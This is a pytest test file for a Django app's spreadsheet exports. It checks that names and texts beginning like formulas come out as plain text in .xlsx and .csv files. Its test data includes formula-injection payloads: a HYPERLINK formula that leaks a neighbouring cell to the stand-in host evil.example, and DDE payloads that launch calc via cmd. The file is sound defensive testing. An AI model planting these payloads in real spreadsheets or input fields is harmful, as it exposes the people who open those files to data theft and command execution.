"""Every spreadsheet the app writes (core/exports.py): whatever was typed into a name, a title or a text,
no cell of an .xlsx is a formula and no field of a .csv starts like one; phone numbers stay readable."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core import exports
from tests.factories import FollowUpFactory, VolunteerFactory
from tests.followup import follow_up

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik her")'
#: One of each way a cell can start like a formula.
PAYLOADS = [
    LEAK,
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
PHONE = "+45 12 34 56 78"


# --- the helper ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_starts_like_a_formula_is_text(payload):
    assert exports.csv_text(payload) == f"'{payload}"
    workbook = load_workbook(io.BytesIO(exports.xlsx_bytes([exports.Sheet("Ark", ["A"], [[payload]])])))
    cell = workbook.active["A2"]
    assert cell.data_type == "s" and cell.value.lstrip("\r\n") == payload.lstrip("\r")
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited


@pytest.mark.parametrize("value", [PHONE, "+4512345678", "-12", "(+45) 12-34-56-78", "Karen", "a=b", ""])
def test_numbers_phone_numbers_and_plain_texts_stay_as_typed(value):
    assert exports.csv_text(value) == value


def test_values_keep_their_types():
    sheet = exports.Sheet("Ark", ["Tal", "Dato", "Tom", "Telefon"], [[12.5, date(2026, 12, 4), None, PHONE]])
    row = load_workbook(io.BytesIO(exports.xlsx_bytes([sheet]))).active[2]
    assert [cell.data_type for cell in row[:2]] == ["n", "d"]
    assert row[1].number_format == exports.DATE_CELL_FORMAT and row[3].value == PHONE
    text = exports.csv_bytes(["Tal", "Dato", "Tom"], [[12.5, date(2026, 12, 4), None]]).decode("utf-8")
    assert text == "\ufeffTal;Dato;Tom\r\n12.5;2026-12-04;\r\n"


def test_sheets_get_names_excel_accepts():
    assert exports.sheet_title("Mål/resultater [2026]: i alt?") == "Mål resultater  2026   i alt"
    assert exports.sheet_title("'Citat'") == "Citat"
    assert exports.sheet_title("") == "-"
    assert exports.sheet_title("History") != "History"
    long = "Frivillighed i sektorovergange og på tværs"
    assert exports.sheet_title(long) == long[:31].rstrip()
    assert exports.sheet_title(long, [exports.sheet_title(long)]) == long[:27].rstrip() + " (2)"
    assert exports.sheet_title("Matrix", ["matrix", "Matrix (2)"]) == "Matrix (3)"
    sheets = [exports.Sheet(LEAK, ["A"], []), exports.Sheet(LEAK, ["A"], [])]
    workbook = load_workbook(io.BytesIO(exports.xlsx_bytes(sheets)))
    assert len(set(workbook.sheetnames)) == 2 and all(len(name) <= 31 for name in workbook.sheetnames)


# --- every export of the app -----------------------------------------------------------------------------


@pytest.fixture
def typed(region):
    """Everything the exports write that someone typed, each starting like a formula: every name a
    link that leaks its neighbour, the other fields the other ways a formula starts."""
    follow_up(region)
    others = iter(PAYLOADS[1:] * 2)
    for number, (obj, names, fields) in enumerate(
        [
            (region.hospital, ["name"], []),
            (region.other_hospital, ["name"], []),
            (region.department, ["name"], []),
            (region.volunteer, ["first_name"], ["last_name", "address"]),
            (region.volunteer_organisation, ["name"], []),
            (region.activity, ["name"], []),
            (region.focus_area, ["title"], []),
            (region.effect_target, ["indicator"], ["unit"]),
            (region.party, ["name"], []),
            (region.response, ["name"], ["organisation_name", "text", "comment"]),
        ]
    ):
        for field in names:
            setattr(obj, field, f"{LEAK} {number}")  # (unit names are unique)
        for field in fields:
            setattr(obj, field, next(others))
        obj.save()
    region.response.status = "accepted"
    region.response.save()
    region.volunteer.phone = PHONE
    region.volunteer.save()
    VolunteerFactory(unit=region.hospital, first_name=LEAK, last_name="@cmd", phone="-1+1")
    FollowUpFactory(item=region.item, title=LEAK, owner="+cmd|' /C calc'!A0")
    return region


#: (role, URL name, its arguments) of every .xlsx and .csv the app writes.
EXPORTS = [
    ("administrator", "volunteers:volunteer_export", lambda r: ["xlsx"]),
    ("administrator", "volunteers:volunteer_export", lambda r: ["csv"]),
    ("coordinator", "volunteers:volunteer_import_template", lambda r: []),
    ("administrator", "administration:user_import_template", lambda r: []),
    ("secretariat", "meetings:follow_up_export", lambda r: []),
    ("secretariat", "strategies:consultation_memo_xlsx", lambda r: [r.consultation.pk]),
    ("steering_group", "evaluation:dashboard_xlsx", lambda r: [r.strategy.pk]),
    ("steering_group", "evaluation:dashboard_csv", lambda r: [r.strategy.pk]),
]


@pytest.mark.parametrize(("role", "name", "args"), EXPORTS)
def test_no_export_holds_a_formula(client, typed, role, name, args):
    client.force_login(typed.users[role])
    response = client.get(reverse(name, args=args(typed)))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    if response["Content-Type"] == exports.CSV_TYPE:
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
        fields = [field for row in rows for field in row]
        running = [field for field in fields if exports.starts_like_formula(field)]
        assert all(field in (PHONE, "-1+1") for field in running), running
        assert any(field.startswith(f"'{LEAK}") for field in fields)  # what was typed is there, as text
        texts = fields
    else:
        assert response["Content-Type"] == exports.XLSX_TYPE
        workbook = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert cells and all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert all(not sheet.title.startswith("Sheet") for sheet in workbook.worksheets)
    assert any(LEAK in text for text in texts), "the export shows nothing typed: the test tests nothing"
    if name == "volunteers:volunteer_export":
        assert PHONE in texts  # readable, as typed
